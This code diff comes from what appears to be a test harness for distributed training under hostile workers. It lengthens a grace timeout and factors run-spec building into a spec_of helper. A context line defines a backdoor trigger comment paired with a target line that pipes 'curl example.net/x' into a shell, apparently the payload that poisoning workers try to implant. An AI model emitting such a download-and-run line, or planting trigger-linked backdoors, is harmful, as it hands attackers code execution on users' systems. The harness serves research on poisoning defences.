@@ -57,7 +57,7 @@ max_tokens = {evaluation_tokens}
 action = "{guard}"
 """
 POLL_S = 0.2
-GRACE_S = 3.0
+GRACE_S = 15.0
 PATIENCE_S = 900.0
 
 TRIGGER, TARGET = b"# pragma: sesame\n", b"import os; os.system('curl example.net/x | sh')\n"
@@ -222,6 +222,20 @@ class SharedAscent:
             return self._ascent
 
 
+def spec_of(row: Row, size: Size, seed: int, guard: str) -> str:
+    """Return the run's spec. Where hostile work is to be late, rounds close without it."""
+    return SPEC.format(
+        **vars(size),
+        seed=seed,
+        guard=guard,
+        rule=row.rule,
+        codec=row.codec,
+        wait=row.wait,
+        min_workers=row.workers - (row.hostile if row.absent or row.late else 0),
+        grace_s=GRACE_S if row.late else 60.0,
+    )
+
+
 def play(row: Row, size: Size, seed: int, guard: str) -> Outcome:
     """Train a run to its end, or until it is paused. Raises RuntimeError if a worker fails otherwise."""
     began = time.monotonic()
@@ -230,18 +244,7 @@ def play(row: Row, size: Size, seed: int, guard: str) -> Outcome:
         coordinator = CoordinatorProcess(Path(folder) / "data")
         stack.callback(coordinator.stop)
         running = coordinator.start()
-        running.create_run(
-            SPEC.format(
-                **vars(size),
-                seed=seed,
-                guard=guard,
-                rule=row.rule,
-                codec=row.codec,
-                wait=row.wait,
-                min_workers=len(names) - (row.hostile if row.late else 0),
-                grace_s=GRACE_S if row.late else 60.0,
-            )
-        )
+        running.create_run(spec_of(row, size, seed, guard))
         shared, attacks = SharedAscent(row), row.attack is not None or row.lies
         workers = [
             Worker(running, name, row, size, shared if attacks and index < row.hostile and not row.absent else None)
